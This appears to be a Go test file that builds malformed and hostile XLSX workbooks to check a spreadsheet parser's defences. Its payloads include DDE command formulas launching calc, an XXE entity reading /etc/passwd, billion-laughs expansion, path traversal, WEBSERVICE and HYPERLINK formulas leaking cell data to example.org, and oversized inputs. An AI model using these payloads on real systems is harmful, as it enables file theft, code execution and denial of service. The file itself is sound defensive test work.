package spreadsheet_test

import (
	"bytes"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
)

const (
	listPart  = "xl/workbook.xml"
	relsPart  = "xl/_rels/workbook.xml.rels"
	textsPart = "xl/sharedStrings.xml"
	typesPart = "[Content_Types].xml"
	rootPart  = "_rels/.rels"

	kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	main  = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
)

// related adds a relation to a part of relations.
func related(part, id, kind, target, more string) func(string, []byte) []byte {
	return inPart(part, "</Relationships>", fmt.Sprintf(`<Relationship Id="%s" Type="%s" Target="%s"%s/></Relationships>`, id, kind, target, more))
}

func contents(t testing.TB, book []byte) []hostile {
	change := func(f func(string, []byte) []byte, add ...part) []byte { return rebuilt(t, book, f, add...) }
	laughs := `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	var wide strings.Builder
	for i := range 300_000 {
		fmt.Fprintf(&wide, ` a%d=""`, i)
	}
	sixteen := func(name string, text []byte) []byte {
		if name != answersPart {
			return text
		}
		out := []byte{0xff, 0xfe}
		for _, u := range utf16.Encode([]rune(string(text))) {
			out = append(out, byte(u), byte(u>>8))
		}
		return out
	}
	return []hostile{
		{"macros", "macros", change(nil, part{"xl/vbaProject.bin", "x"})},
		{"macros under another name", "macros", change(related(relsPart, "x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme/x.bin", ""), part{"xl/theme/x.bin", "x"})},
		{"macros by the type of the file", "macros", change(inPart(typesPart, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))},
		{"a sheet of Excel 4 macros", "macros", change(related(relsPart, "x", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "worksheets/x.xml", ""), part{"xl/worksheets/x.xml", "<a/>"})},
		{"links to other workbooks", "links", change(nil, part{"xl/externalLinks/externalLink1.xml", "<a/>"})},
		{"a DDE link under another name", "links", change(related(relsPart, "x", kinds+"externalLink", "theme/d.xml", ""), part{"xl/theme/d.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`})},
		{"embedded file", "embedded", change(nil, part{"xl/embeddings/a.bin", "x"})},
		{"embedded object under another name", "embedded", change(nil, part{"xl/worksheets/_rels/sheet1.xml.rels", `<Relationships><Relationship Id="1" Type="` + kinds + `oleObject" Target="../a.bin"/></Relationships>`})},
		{"ActiveX", "embedded", change(nil, part{"xl/activeX/activeX1.xml", "<a/>"})},
		{"a picture from the net", "links to another file", change(related(relsPart, "x", kinds+"image", "http://example.org/a.png", ` TargetMode="External"`))},
		{"a template from the net", "links to another file", change(related(rootPart, "x", kinds+"attachedTemplate", "file://example.org/a.dot", ` TargetMode="External"`))},
		{"a connection to a database", "fetches data", change(related(relsPart, "x", kinds+"connections", "connections.xml", ""), part{"xl/connections.xml", `<connections><connection id="1" name="q" type="1"/></connections>`})},
		{"document type in the sheet", "document type", change(inSheet("<worksheet", `<!DOCTYPE x [<!ENTITY e "e">]><worksheet`))},
		{"entities that grow", "document type", change(inPart(textsPart, "<sst", laughs+"<sst"))},
		{"an entity that reads a file", "document type", change(inPart(listPart, "<workbook", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook`))},
		{"document type in a part of no name", "document type", change(nil, part{"xl/worksheets/a.bin", `<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>`})},
		{"an entity that is not declared", "damaged", change(inSheet("<sheetData>", "&e;<sheetData>"))},
		{"a million elements deep", "nested deeper", change(inSheet("<sheetData>", strings.Repeat("<a>", 1_000_000)+"<sheetData>"))},
		{"a million elements deep in styles", "nested deeper", change(inPart("xl/styles.xml", "<fonts", strings.Repeat("<a>", 300_000)+"<fonts"))},
		{"300,000 attributes", "", change(inPart(listPart, "<sheets>", "<sheets><sheet"+wide.String()+"/>"))},
		{"a sheet in UTF-16", "damaged", change(sixteen)},
		{"bytes that are no text", "damaged", change(inSheet("<sheetData>", "<sheetData>\xff\xfe"))},
		{"an old encoding", "damaged", change(inSheet(`encoding="UTF-8"`, `encoding="ISO-8859-1"`))},
		{"a bare ampersand", "damaged", change(inSheet(`<row r="2"`, `& <row r="2"`))},
		{"a sheet without its end", "damaged", change(inSheet("</sheetData>", ""))},
		{"a NUL in a text", "damaged", change(inPart(textsPart, "<t>", "<t>\x00"))},
	}
}

func lists(t testing.TB, book []byte) []hostile {
	change := func(f func(string, []byte) []byte, add ...part) []byte { return rebuilt(t, book, f, add...) }
	nothing := func(part string) func(string, []byte) []byte {
		return func(n string, b []byte) []byte {
			if n == part {
				return nil
			}
			return b
		}
	}
	decoy := part{"xl/other.xml", `<workbook xmlns="` + main + `" xmlns:r="` + strings.TrimSuffix(kinds, "/") + `"><sheets><sheet name="Answers" sheetId="1" r:id="rId1"/></sheets></workbook>`}
	return []hostile{
		{"no list of sheets", "list of sheets is damaged", change(nothing(listPart))},
		{"no relations", "list of sheets is damaged", change(nothing(relsPart))},
		{"two lists of sheets", "two workbooks", change(related(rootPart, "x", kinds+"officeDocument", "xl/other.xml", ""), decoy)},
		{"another list of sheets", "list of sheets", change(inPart(rootPart, `Target="xl/workbook.xml"`, `Target="xl/other.xml"`), decoy)},
		{"a relation twice", "is there twice", change(related(relsPart, "rId1", kinds+"worksheet", "worksheets/sheet2.xml", ""))},
		{"a sheet that is not there", "listed, but not in the file", change(inPart(relsPart, "sheet4.xml", "sheet44.xml"))},
		{"a sheet outside", "listed, but not in the file", change(inPart(relsPart, "worksheets/sheet4.xml", "../../../etc/sheet4.xml"))},
		{"two sheets of answers", "there twice", change(inPart(listPart, `name="Gaps"`, `name="ANSWERS"`))},
		{"no sheet of answers", "Answers", change(inPart(listPart, `name="Answers"`, `name="Replies"`))},
		{"texts twice", "twice", change(related(relsPart, "x", kinds+"sharedStrings", "more.xml", ""), part{"xl/more.xml", `<sst xmlns="` + main + `"/>`})},
		{"texts that are not there", "not in the file", change(inPart(relsPart, "sharedStrings.xml", "strings.xml"))},
		{"a text in two pieces", "texts of the workbook are damaged", change(inPart(textsPart, "<t>", "<t/><t>"))},
		{"a text before the first", "not in the file", change(inSheet("<sheetData>", `<sheetData><row r="1"><c r="A1" t="s"><v>-1</v></c></row>`))},
	}
}

// cellsOut has sheets that hide cells from one program or the other.
func cellsOut(t testing.TB, book []byte) []hostile {
	at := func(s string) []byte { return rebuilt(t, book, inSheet("<sheetData>", "<sheetData>"+s)) }
	before := func(s string) []byte { return rebuilt(t, book, inSheet("<sheetData>", s+"<sheetData>")) }
	return []hostile{
		{"a row beyond the limit", "rows", rebuilt(t, book, inSheet("</sheetData>", `<row r="20001"><c r="A20001"><v>1</v></c></row></sheetData>`))},
		{"a column beyond the limit", "columns", rebuilt(t, book, inSheet("</sheetData>", `<row r="2000"><c r="XFD2000"><v>1</v></c></row></sheetData>`))},
		{"a row beyond all rows", "2147483647", at(`<row r="2147483647"/>`)},
		{"rows out of order", "follows", at(`<row r="9"/>`)},
		{"cells of another namespace", "stands among its rows", at(`<e:row xmlns:e="urn:e" r="1"/>`)},
		{"rows of another namespace first", "cannot be read whole", before(`<e:sheetData xmlns:e="urn:e"><e:row r="1"/></e:sheetData>`)},
		{"rows twice", "twice", rebuilt(t, book, inSheet("</sheetData>", "</sheetData><sheetData></sheetData>"))},
		{"rows for some programs only", "stands among its rows", at(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"/>`)},
	}
}

// inAnswer puts a formula into the first cell for an answer.
func inAnswer(t testing.TB, book []byte, formula string) []byte {
	t.Helper()
	cell := regexp.MustCompile(`<c r="E2"([^>]*?)(/>| t="s"><v>[0-9]+</v></c>)`)
	return rebuilt(t, book, func(name string, text []byte) []byte {
		if name == answersPart {
			return cell.ReplaceAll(text, []byte(`<c r="E2"$1 t="str">`+formula+`<v>3</v></c>`))
		}
		return text
	})
}

func formulas(t testing.TB, book []byte) []hostile {
	var list []hostile
	for name, f := range map[string]string{
		"that starts a program":  `<f>cmd|'/c calc'!A0</f>`,
		"HYPERLINK":              `<f>HYPERLINK("http://example.org/?"&amp;A1,"here")</f>`,
		"WEBSERVICE":             `<f>_xlfn.WEBSERVICE("http://example.org/"&amp;A1)</f>`,
		"IMPORTXML":              `<f>IMPORTXML("http://example.org/","//a")</f>`,
		"RTD":                    `<f>RTD("server",,"topic")</f>`,
		"of another workbook":    `<f>[1]Sheet1!$A$1</f>`,
		"shared among cells":     `<f t="shared" ref="E2:E9" si="0">1+2</f>`,
		"shared from elsewhere":  `<f t="shared" si="0"/>`,
		"of an array":            `<f t="array" ref="E2:E3">ROW(1:2)</f>`,
		"of a data table":        `<f t="dataTable" ref="E2:E3" dt2D="1" r1="A1" r2="A2"/>`,
		"that is always changed": `<f ca="1">RAND()</f>`,
		"that is empty":          `<f/>`,
	} {
		list = append(list, hostile{"a formula " + name, "there is a formula", inAnswer(t, book, f)})
	}
	slicesByName(list)
	return list
}

// heavy has what costs much and means nothing.
func heavy(t testing.TB, book []byte) []hostile {
	many := func(n int, each func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(each(i))
		}
		return b.String()
	}
	sheet := func(old, new string) []byte { return rebuilt(t, book, inSheet(old, new)) }
	below := func(rows string) []byte { return sheet("</sheetData>", rows+"</sheetData>") }
	return []hostile{
		{"the largest dimension", "", sheet("<sheetViews", `<dimension ref="A1:XFD1048576"/><sheetViews`)},
		{"300,000 empty rows", "", below(many(300_000, func(i int) string { return fmt.Sprintf(`<row r="%d"/>`, 1000+i) }))},
		{"200,000 rows with a look", "", below(many(200_000, func(i int) string { return fmt.Sprintf(`<row r="%d" ht="15" s="1"/>`, 1000+i) }))},
		{"150,000 empty cells far right", "", below(many(150_000, func(i int) string { return fmt.Sprintf(`<row r="%d"><c r="XFD%d" s="1"/></row>`, 1000+i, 1000+i) }))},
		{"15,000 empty cells far right above one", "without an id", below(many(15_000, func(i int) string { return fmt.Sprintf(`<row r="%d"><c r="XFD%d" s="1"/></row>`, 1000+i, 1000+i) }) +
			`<row r="20000"><c r="E20000"><v>3</v></c></row>`)},
		{"200,000 merged cells", "", sheet("</sheetData>", "</sheetData><mergeCells>"+many(200_000, func(i int) string { return fmt.Sprintf(`<mergeCell ref="ZA%d:ZB%d"/>`, i+1, i+1) })+"</mergeCells>")},
		{"60,000 validations", "", sheet("</sheetData>", "</sheetData><dataValidations>"+many(60_000, func(i int) string {
			return fmt.Sprintf(`<dataValidation type="whole" sqref="ZA%d"><formula1>1</formula1></dataValidation>`, i+1)
		})+"</dataValidations>")},
		{"60,000 rules of colour", "", sheet("</sheetData>", "</sheetData>"+many(60_000, func(i int) string {
			return fmt.Sprintf(`<conditionalFormatting sqref="ZA%d"><cfRule type="expression" priority="%d"><formula>1</formula></cfRule></conditionalFormatting>`, i+1, i+1)
		}))},
		{"styles just below the limit", "", rebuilt(t, book, inPart("xl/styles.xml", "</cellXfs>", many(20_000, func(int) string { return `<xf numFmtId="0" fontId="0"/>` })+"</cellXfs>"))},
		{"a million texts that nobody uses", "", rebuilt(t, book, inPart(textsPart, "</sst>", many(1_000_000, func(int) string { return "<si/>" })+"</sst>"))},
		{"a text of 7 MiB", "", rebuilt(t, book, inPart(textsPart, "</sst>", "<si><t>"+strings.Repeat("x", 7<<20)+"</t></si></sst>"))},
		{"100,000 names", "", rebuilt(t, book, inPart(listPart, "<definedNames>", "<definedNames>"+many(100_000, func(i int) string { return fmt.Sprintf(`<definedName name="n%d">Answers!$A$1</definedName>`, i) })))},
		{"250,000 cells in columns of one's own", "", below(many(1250, func(r int) string {
			return fmt.Sprintf(`<row r="%d">`, 1000+r) + many(170, func(c int) string { return fmt.Sprintf(`<c r="%s%d"><v>1</v></c>`, columnName(30+c), 1000+r) }) + "</row>"
		}))},
	}
}

// foreign has what other programs write, or a person may have done.
func foreign(t testing.TB, book []byte) []hostile {
	change := func(f func(string, []byte) []byte, add ...part) []byte { return rebuilt(t, book, f, add...) }
	strict := func(_ string, text []byte) []byte {
		text = bytes.ReplaceAll(text, []byte(main), []byte("http://purl.oclc.org/ooxml/spreadsheetml/main"))
		return bytes.ReplaceAll(text, []byte("http://schemas.openxmlformats.org/officeDocument/2006/relationships"), []byte("http://purl.oclc.org/ooxml/officeDocument/relationships"))
	}
	texts := func(as string) func(string, []byte) []byte {
		item := regexp.MustCompile(`<si><t( xml:space="preserve")?>([^<]*)</t></si>`)
		return func(name string, text []byte) []byte {
			if name == textsPart {
				return item.ReplaceAll(text, []byte(as))
			}
			return text
		}
	}
	inline := func(name string, text []byte) []byte {
		if name != answersPart {
			return text
		}
		cell := regexp.MustCompile(` t="s"><v>([0-9]+)</v>`)
		items := textsOf(t, book)
		return cell.ReplaceAllFunc(text, func(m []byte) []byte {
			var n int
			if _, err := fmt.Sscanf(string(cell.FindSubmatch(m)[1]), "%d", &n); err != nil {
				t.Fatal(err)
			}
			return []byte(` t="inlineStr"><is>` + items[n] + `</is>`)
		})
	}
	hidden := part{"xl/worksheets/hidden.xml", `<worksheet xmlns="` + main + `"><sheetData><row r="1"><c r="A1"><f>1+1</f></c></row></sheetData></worksheet>`}
	sheets := func(name, state string) func(string, []byte) []byte {
		return func(n string, text []byte) []byte {
			text = related(relsPart, "own", kinds+"worksheet", "worksheets/hidden.xml", "")(n, text)
			return inPart(listPart, "</sheets>", `<sheet name="`+name+`" sheetId="99" state="`+state+`" r:id="own"/></sheets>`)(n, text)
		}
	}
	moved := func(n string, text []byte) []byte {
		return inPart(rootPart, `Target="xl/workbook.xml"`, `Target="/xl/workbook.xml"`)(n, inPart(relsPart, `Target="worksheets/sheet4.xml"`, `Target="/xl/worksheets/../worksheets/sheet4.xml"`)(n, text))
	}
	return []hostile{
		{"the strict form of the standard", "", change(strict)},
		{"rich texts", "", change(texts(`<si><r><rPr><b/></rPr><t xml:space="preserve">$2</t></r></si>`))},
		{"texts with their readings", "", change(texts(`<si><t xml:space="preserve">$2</t><rPh sb="0" eb="1"><t>reading</t></rPh><phoneticPr fontId="1"/></si>`))},
		{"texts inside the cells", "", change(inline)},
		{"texts in CDATA", "", change(texts(`<si><t xml:space="preserve"><![CDATA[]]>$2</t></si>`))},
		{"days counted from 1904", "", change(inPart(listPart, "<workbookPr", `<workbookPr date1904="1"`))},
		{"a hidden sheet with a formula", "", change(sheets("Other", "hidden"), hidden)},
		{"a sheet hidden from the menu", "", change(sheets("Other", "veryHidden"), hidden)},
		{"a sheet with quotes in its name", "", change(sheets("O'Brien &quot;x&quot; &amp; ''", "visible"), hidden)},
		{"a sheet with other letters in its name", "", change(sheets("回答 إجابات \u202e", "visible"), hidden)},
		{"the sheet of answers is hidden", "", change(inPart(listPart, `name="Answers"`, `name="Answers" state="hidden"`))},
		{"absolute relations", "", change(moved)},
		{"a mark of byte order", "", change(inSheet("<?xml", "\xef\xbb\xbf<?xml"))},
		{"comments and instructions", "", change(inSheet("<sheetData>", "<!-- a --><?b c?><sheetData><!-- d -->"))},
		{"a link to click", "", change(nil, part{"xl/worksheets/_rels/sheet9.xml.rels", `<Relationships><Relationship Id="1" Type="` + kinds + `hyperlink" Target="http://example.org/" TargetMode="External"/></Relationships>`})},
		{"a formula in a column of one's own", "", change(inSheet("</sheetData>", `<row r="900"><c r="AZ900"><f>cmd|'/c calc'!A0</f><v>0</v></c></row></sheetData>`))},
		{"wrong types of content", "", change(inPart(typesPart, "spreadsheetml.worksheet+xml", "presentationml.slide+xml"))},
		{"a drawing with a document type", "", change(nil, part{"xl/media/a.svg", `<!DOCTYPE svg SYSTEM "http://example.org/a.dtd"><svg/>`})},
		{"a part of another program", "", change(nil, part{"docProps/custom.xml", "<Properties/>"})},
	}
}

// textsOf gives the texts of a workbook as they are written, without the element around them.
func textsOf(t testing.TB, book []byte) []string {
	t.Helper()
	var out []string
	rebuilt(t, book, func(name string, text []byte) []byte {
		if name == textsPart {
			for _, m := range regexp.MustCompile(`(?s)<si>(.*?)</si>`).FindAllSubmatch(text, -1) {
				out = append(out, string(m[1]))
			}
		}
		return text
	})
	return out
}

func columnName(n int) string {
	name, err := excelize.ColumnNumberToName(n)
	if err != nil {
		return "A"
	}
	return name
}

func slicesByName(list []hostile) {
	slices.SortFunc(list, func(a, b hostile) int { return strings.Compare(a.name, b.name) })
}
